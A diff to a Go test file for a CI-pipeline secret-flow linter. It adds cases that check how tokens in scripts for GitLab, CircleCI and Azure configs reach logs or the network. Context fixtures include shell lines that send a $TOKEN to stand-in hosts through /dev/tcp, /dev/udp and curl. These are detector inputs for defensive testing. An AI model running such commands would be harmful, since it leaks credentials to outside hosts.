@@ -85,6 +85,7 @@ func TestFlowsOfScripts(t *testing.T) {
 		{"a connection of the shell", "echo $TOKEN > /dev/tcp/h.example/80\nexec 3<>/dev/udp/i.example/53\necho $TOKEN >&3", []string{"network by echo KEY host=h.example at $TOKEN", "network by echo KEY host=i.example at $TOKEN"}},
 		{"another descriptor", "exec 3>&1 4>out\necho $TOKEN >&3\necho $TOKEN >&4", []string{"log by echo KEY masked=yes at $TOKEN", "file by echo KEY path=out at $TOKEN"}},
 		{"a program that is not known", "echo $TOKEN | mytool\nA=$(mytool <<< $TOKEN)\ncurl -d $A https://h.example", []string{"log by mytool KEY +unknown masked=unknown possible at mytool", "argv by curl KEY +unknown possible at $A", "network by curl KEY +unknown host=h.example possible at $A"}},
+		{"what is public of a key", `echo "$TOKEN" | openssl pkey -pubout`, nil},
 		{"a cipher", `echo $TOKEN | openssl enc -aes-256-cbc -pass env:P -base64`, nil},
 		{"code that xargs fills", `echo $TOKEN | xargs -I{} sh -c 'echo {} | rev'`, []string{"argv by sh KEY at $TOKEN", "eval by sh -c KEY at $TOKEN", "log by rev KEY +reverse masked=no at rev"}},
 		{"what other languages read", "echo $TOKEN | python3 -c 'import sys; print(sys.stdin.read()[::-1])'\nruby -e 'puts ARGV[0].chars.join(\" \")' $TOKEN", []string{"log by print KEY +reverse masked=no likely at sys.stdin.read()", "argv by ruby KEY at $TOKEN", "log by print KEY +substring masked=no likely at ARGV[0]"}},
@@ -404,6 +405,41 @@ func TestFlowsOfScriptsOfTheRepository(t *testing.T) {
 				t.Error(diff)
 			}
 		})
+	}
+}
+
+// Where settings define variables, scripts of the repository may be the only ones that
+// name them.
+func TestVariablesThatOnlyScriptsName(t *testing.T) {
+	scripts := map[string]string{
+		"ci/ship.sh": "DB_PASSWORD=$(cat /run/pw)\necho $DB_PASSWORD | rev\necho $DEPLOY_TOKEN | rev\necho $APP_SECRET $deploy_token $HOME\n",
+		"Makefile":   "ship:\n\t@echo $(NPM_TOKEN) | rev\n",
+		"ci/ship.py": "import os\nprint(os.environ['API_KEY'][1:])\n",
+	}
+	all := []string{"log by rev DEPLOY_TOKEN +reverse masked=no at rev", "log by rev NPM_TOKEN +reverse masked=no at rev", "log by print API_KEY +substring masked=no likely at API_KEY"}
+	tests := []struct {
+		path, text string
+		parse      parser
+		want       []string
+	}{
+		{".gitlab-ci.yml", "variables: {APP_SECRET: none}\na:\n  script: [./ci/ship.sh, make ship, python ci/ship.py]\n", gitlab.Parse, all},
+		{".circleci/config.yml", "version: 2.1\njobs:\n  a:\n    docker: [{image: x}]\n    environment: {APP_SECRET: none}\n    steps:\n    - run: ./ci/ship.sh\n    - run: make ship\n    - run: python ci/ship.py\n", circleci.Parse, all},
+		{"azure-pipelines.yml", "steps:\n- script: ./ci/ship.sh\n", azure.Parse, nil}, // which hands nothing on by itself
+	}
+	for _, test := range tests {
+		src := &lint.Source{Path: test.path, Data: []byte(test.text)}
+		sources := map[string]*lint.Source{test.path: src}
+		for path, text := range scripts {
+			sources[path] = &lint.Source{Path: path, Data: []byte(text)}
+		}
+		docs, findings := test.parse([]*lint.Source{src})
+		if len(docs) != 1 || len(findings) > 0 {
+			t.Fatalf("got %d documents, findings %v", len(docs), findings)
+		}
+		got := pipelinetest.Flows(t, pipeline.Link(docs[0], func(path string) *lint.Source { return sources[path] }), sources)
+		if diff := cmp.Diff(test.want, got); diff != "" {
+			t.Errorf("%s: %s", test.path, diff)
+		}
 	}
 }
 
